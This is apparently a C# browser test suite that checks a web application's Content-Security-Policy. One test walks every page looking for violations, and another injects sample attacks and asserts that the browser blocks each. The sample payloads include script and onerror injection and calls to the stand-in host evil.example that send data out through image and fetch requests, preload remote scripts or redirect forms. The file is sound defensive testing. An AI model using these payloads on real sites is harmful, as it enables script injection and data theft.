using PartnerCenter.Licensing.BrowserTests.Infrastructure;

namespace PartnerCenter.Licensing.BrowserTests.EveryPage;

/// <summary>What a real browser makes of the Content-Security-Policy.</summary>
[Collection(BrowserCollection.LongRuns)]
public sealed class ContentSecurityPolicyTests(BrowserFixture browser)
{
    private const string Listen =
        """
        window.violations = [];
        addEventListener('securitypolicyviolation', event => window.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`));
        """;

    [Fact]
    public Task EveryPage_NeedsNothingThatThePolicyForbids() =>
        browser.RunAsync(
            Language.English,
            script: true,
            async journey =>
            {
                await journey.Tab.Page.AddInitScriptAsync(Listen);
                var (violations, places) = (new List<string>(), 0);
                await foreach (var place in Tour.WalkAsync(journey))
                {
                    places++;
                    violations.AddRange((await journey.Tab.Page.EvaluateAsync<string[]>("violations")).Select(violation => $"{place}: {violation}"));
                }

                Assert.Empty(violations);
                Assert.True(places > 20);
            });

    [Theory]
    [InlineData("require-trusted-types-for", "const script = document.createElement('script'); script.append('window.ran = true'); document.body.append(script);")]
    [InlineData("require-trusted-types-for", "document.body.insertAdjacentHTML('beforeend', '<img src=\"/x\" onerror=\"window.ran = true\">');")]
    [InlineData("script-src-elem", "const script = document.createElement('link'); script.rel = 'modulepreload'; script.href = 'https://evil.example/x.js'; document.head.append(script);")]
    [InlineData("style-src-elem", "const style = document.createElement('style'); style.append('body { display: none }'); document.head.append(style);")]
    [InlineData("style-src-attr", "document.body.setAttribute('style', 'display: none');")]
    [InlineData("img-src", "const image = new Image(); image.src = 'https://evil.example/?stolen'; document.body.append(image);")]
    [InlineData("connect-src", "fetch('https://evil.example/?stolen').catch(() => {});")]
    [InlineData("frame-src", "const frame = document.createElement('iframe'); frame.src = '/customers'; document.body.append(frame);")]
    [InlineData("base-uri", "const base = document.createElement('base'); base.href = 'https://evil.example/'; document.head.append(base);")]
    [InlineData("form-action", "const form = document.forms[0]; form.action = 'https://evil.example/'; form.submit();")]
    public Task InjectedCode_IsStopped(string directive, string code) =>
        browser.RunAsync(
            Language.English,
            script: true,
            async journey =>
            {
                await journey.SignInAsync();
                await journey.Tab.Page.AddInitScriptAsync(Listen);
                await journey.Tab.Page.GotoAsync("/customers");

                await journey.Tab.Page.EvaluateAsync($"() => {{ try {{ {code} }} catch {{ }} }}");

                await journey.Tab.Page.WaitForFunctionAsync("violations.length > 0");
                Assert.StartsWith(directive, Assert.Single((await journey.Tab.Page.EvaluateAsync<string[]>("violations")).Distinct()), StringComparison.Ordinal);
                Assert.False(await journey.Tab.Page.EvaluateAsync<bool>("'ran' in window"));
                // The browser's console says so too: here that is what was wanted.
                journey.ForgetProblems();
            });
}
